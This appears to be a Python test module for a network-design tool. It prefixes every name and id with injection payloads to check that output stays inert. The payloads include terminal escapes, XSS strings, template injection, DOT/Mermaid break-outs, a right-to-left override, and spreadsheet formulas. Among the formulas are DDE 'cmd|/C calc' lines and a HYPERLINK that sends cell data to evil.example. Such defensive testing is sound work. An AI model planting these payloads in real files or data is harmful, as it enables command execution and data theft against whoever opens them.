"""Hostile names: one payload set, turned into designs whose every name and id starts with a payload.

Names come from files anyone can write and from backend inventories (a VM named so in vCenter reaches a
design through ``vnetbench import``); once they leave vnetbench they must stay data. The payloads cover
terminal escapes, markup, template syntax, spreadsheet formulas, line breaks inside quotes, DOT and Mermaid
break-outs, and the right-to-left override.
"""

from __future__ import annotations

import copy
import json
import re

import yaml

from vnetbench import resources_dir
from vnetbench.model import loads
from vnetbench.model.index import walk

#: name -> payload. Each is used as the prefix of every name and id of one design.
PAYLOADS: dict[str, str] = {
    "osc-title": "\x1b]0;pwned\x07",
    "csi-clear": "\x1b[2J\x1b[H",
    "osc8-link": "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "c1-csi": "\x9b31m",
    "bel": "\x07\x07",
    "cr-overwrite": "ok\rEVIL",
    "script": "<script>alert(1)</script>",
    "img-onerror": "<img src=x onerror=alert(1) width=4000>",
    "javascript": "javascript:alert(1)//",
    "template": "{{ 7*7 }}",
    "formula-eq": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "formula-plus": "+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "quotes-newline": "a\"b'c\nd\"e",
    "dot-breakout": '"];evil [label="x"]; x -- y [',
    "dot-entity": "&unknown;&amp;",
    "mermaid-breakout": '"]\n  click n1 "javascript:alert(1)"\n  x["',
    "mermaid-init": "%%{init: {'theme':'dark'}}%%",
    "rlo": "\u202etxt.exe",
}

EXAMPLE = resources_dir() / "examples" / "esx-four-cases.vnet.yaml"

#: Characters that must never reach a terminal raw: C0 but the line feed, DEL, C1, and bidi controls.
_RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def raw_controls(text: str) -> list[str]:
    """The characters in ``text`` a terminal would act on (empty when it is safe to print)."""
    return _RAW.findall(text)


def hostile_data(payload: str, source: dict | None = None) -> dict:
    """The example as plain data with ``payload`` in front of every id and name (references follow)."""
    data = copy.deepcopy(source if source is not None else yaml.safe_load(EXAMPLE.read_text(encoding="utf-8")))
    ids = {entry.obj.id for entry in walk(loads(json.dumps(data)))}

    def fix(node):
        if isinstance(node, dict):
            out = {}
            for key, value in node.items():
                key = payload + key if key in ids else key
                if isinstance(value, str) and (value in ids or key == "name"):
                    value = payload + value
                out[key] = fix(value)
            return out
        if isinstance(node, list):
            return [payload + v if isinstance(v, str) and v in ids else fix(v) for v in node]
        return node

    data = fix(data)
    data["id"] = payload + str(data.get("id", "design"))
    data["name"] = payload + str(data.get("name", ""))
    return data


def hostile_text(payload: str) -> str:
    """The hostile design as JSON (which can carry every character a name may hold)."""
    return json.dumps(hostile_data(payload))
